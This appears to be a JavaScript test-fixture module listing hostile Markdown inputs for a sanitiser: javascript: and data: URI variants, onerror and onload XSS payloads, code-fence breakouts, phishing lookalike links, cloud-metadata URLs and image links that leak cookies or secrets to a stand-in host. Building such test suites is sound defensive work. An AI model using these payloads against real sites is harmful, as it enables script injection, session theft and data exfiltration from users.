/** Markdown that leads elsewhere: links that are no links, pictures that call home, and code that is more than code. */
import {HOME, RUN} from "./aims.mjs"

const destinations = [
    `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\nscript:${RUN}`, `java\tscript:${RUN}`, `&#106;avascript:${RUN}`,
    `&#x6A;&#x61;vascript&colon;${RUN}`, `\u0001javascript:${RUN}`, `\u00A0javascript:${RUN}`, `\u200Bjavascript:${RUN}`,
    `javascript&#58;${RUN}`, `javascript&#x0003a;${RUN}`, `java&NewLine;script:${RUN}`, `java&Tab;script:${RUN}`,
    `javascript://allowed.test/%0A${RUN}`, `jav%61script:${RUN}`, `view-source:javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuQVNjcmlwdCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${RUN}>`,
    `data:,${RUN}`, `vbscript:msgbox`, `file:///etc/passwd`, `blob:${HOME}`, `filesystem:${HOME}`, `about:blank`, `chrome://settings`,
    `intent://evil.test#Intent;scheme=https;end`, `ms-word:ofe|u|${HOME}`, `tel:+1`, `sms:+1?body=secret`, `ftp://evil.test/x`,
    `ws://evil.test/x`, `//evil.test/x`, `///evil.test/x`, `\\\\evil.test/x`, `/\\evil.test/x`, `\\/evil.test/x`, `https:evil.test`,
    `https:/evil.test`, `https:///evil.test`, `https:\\\\evil.test`, `http://evil.test`, `HTTPS://EVIL.TEST/`, `https://evil.test:443/`,
    `https://allowed.test@evil.test/`, `https://allowed.test:pw@allowed.test/`, `https://allowed.test.evil.test/`, `https://evil.test/allowed.test`,
    `https://evil.test#allowed.test`, `https://evil.test\\@allowed.test`, `https://allowed.test%2Fevil.test/`, `https://allowed.test%00.evil.test/`,
    `https://аllowed.test/`, `https://allowed。test/`, `https://ａllowed.test/`, `https://allowed.test\u202Etset.live/`, `https://allowed.test:8443/`,
    `https://[::1]/`, `http://169.254.169.254/latest/meta-data/`, `http://0x7f.1/`, `http://localhost/`, `https://evil.test/${"a".repeat(3000)}`,
    `mailto:x@evil.test?body=secret&cc=y@evil.test`, `mailto:x@evil.test%0Abcc:y@evil.test`,
]

export const links = [
    ...destinations.map((to) => `[x](${to})`),
    ...destinations.slice(0, 12).map((to) => `[x](<${to}>)`),
    ...destinations.slice(0, 8).map((to) => `[x][1]\n\ntext\n\n[1]: ${to}\n`),
    ...destinations.filter((to) => !/[\s<>]/.test(to)).slice(4, 16).map((to) => `<${to}>`),
]

export const linkTricks = [
    `[x](${HOME} "t\\" onmouseover=${RUN} x=\\"")`,
    `[x](${HOME} '"><img src=x onerror=${RUN}>')`,
    `[x]: javascript:${RUN}\n\n[x]`,
    `[x][1]\n\ntext\n\n[1]: ${HOME} "<img src=x onerror=${RUN}>"\n`,
    `[__proto__]: ${HOME}\n\n[__proto__] [constructor] [toString]`,
    `[constructor][] [hasOwnProperty][x]\n\n[x]: javascript:${RUN}\n`,
    `${HOME}"onmouseover="${RUN}`,
    `https://evil.test/<script>${RUN}</script>`,
    `www.evil.test evil.test/x x@evil.test`,
    `https://allowed.test/"><img src=x onerror=${RUN}>`,
    `http://${"a.".repeat(500)}test/`,
    `[<img src=x onerror=${RUN}>](${HOME})`,
    `[![x](${HOME})](${HOME})`,
    `[[x](${HOME})](javascript:${RUN})`,
    `[x](${HOME} =100x100){onclick=${RUN}}`,
    `[x]{.undo #composer data-controller=reply style="color:red"}`,
    `# x {#composer onclick=${RUN}}`,
    `[^1]\n\n[^1]: <img src=x onerror=${RUN}> ![y](${HOME})\n`,
    `[x](${HOME}\n"title")`,
    `[x](`.repeat(60),
    `[https://allowed.test/](${HOME})`,
    `[allowed.test](https://evil.test/) [Sign in again](https://evil.test/)`,
    `<a href="${HOME}">https://allowed.test</a>`,
    `*[HTML]: <img src=x onerror=${RUN}>\n\nHTML`,
    `---\ntitle: <script>${RUN}</script>\n---\n`,
    `:::warning{onclick=${RUN}}\nx\n:::\n`,
    `- [ ] <input autofocus onfocus=${RUN}>\n- [x] done`,
    `Term\n: <img src=x onerror=${RUN}>`,
    `<https://evil.test/"onclick=${RUN}>`,
    `\\<img src=x onerror=${RUN}\\>`,
    `[x](\\javascript:${RUN})`,
]

const pictures = [HOME, "//evil.test/x", "https:evil.test/x", "\\\\evil.test\\x", "https://allowed.test/pixel?q=secret", "http://127.0.0.1:1/x",
    "/oauth2/authorization/keycloak", "/logout", "/conversations?after=x", "x.png", "?q=secret", "#x", `javascript:${RUN}`,
    `data:image/svg+xml,<svg onload=${RUN}>`, "data:image/gif;base64,R0lGODlhAQABAAAAACw=", "blob:https://evil.test/1", "cid:x", "ftp://evil.test/x",
    "https://evil.test/${document.cookie}", "https://evil.test/%73ecret", "https://secret.evil.test/", "https://evil.test:8443/x.png",
    "https://user:secret@evil.test/x", "HTTPS://EVIL.TEST/X"]

export const images = [
    ...pictures.map((from) => `![x](${from})`),
    `![x][1]\n\n[1]: ${HOME}`,
    `![x][]\n\n[x]: ${HOME}`,
    `![${HOME}]\n\n[${HOME}]: ${HOME}`,
    `![" onerror="${RUN}](x)`,
    `![x](x "\\" onerror=\\"${RUN}")`,
    `![<script>${RUN}</script>](${HOME})`,
    `![![y](${HOME})](${HOME})`,
    `![*a* \`b\` $c$](${HOME} "t")`,
    `> - ![x](${HOME})\n>   1. ![y](${HOME})`,
    `| ![x](${HOME}) |\n|--|\n| ![y](${HOME}) |`,
    `# ![x](${HOME})`,
    `**![x](${HOME})** ~~![x](${HOME})~~`,
    `![x](<${HOME}> "t")`,
    `!\\[x](${HOME}) \\![x](${HOME})`,
    `![x](${HOME} =1x1)`,
    `![x](${HOME}\n"t")`,
    `!<${HOME}>`,
    `![\u202E](${HOME})`,
    `![${"[".repeat(200)}](${HOME})`,
]

const languages = ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf", "prototype", "html onload=" + RUN, "\"><img src=x onerror=" + RUN + ">",
    "js\" data-controller=\"reply", "{.undo #composer}", "mermaid\"", "MERMAID ", "<script>", "\u0000js", "\u202Ejs", "../../x", "a".repeat(400)]

export const code = [
    ...languages.map((name) => "```" + name + "\nx <img src=x onerror=" + RUN + ">\n```\n"),
    ...["html", "xml", "php", "js", "css", "svg", "markdown", "json", "bash", "diff", "vue", "handlebars"]
        .map((name) => "```" + name + `\n</code></pre><script>${RUN}</script><style>@import "${HOME}"</style><?php ${RUN} ?>\n` + "```\n"),
    "```html\n</code></pre></figure><img src=x onerror=" + RUN + ">\n",
    "```xml\n<![CDATA[</span><img src=x onerror=" + RUN + ">]]>\n```\n",
    "~~~html\n<img src=x onerror=" + RUN + ">\n```\n~~~\n",
    "`<img src=x onerror=" + RUN + ">`",
    "`` `<img src=x onerror=" + RUN + "> ``",
    "    <script>" + RUN + "</script>\n",
    "- ```html\n  <img src=x onerror=" + RUN + ">\n  ```\n",
    "> ```\n<img src=x onerror=" + RUN + ">\n",
]
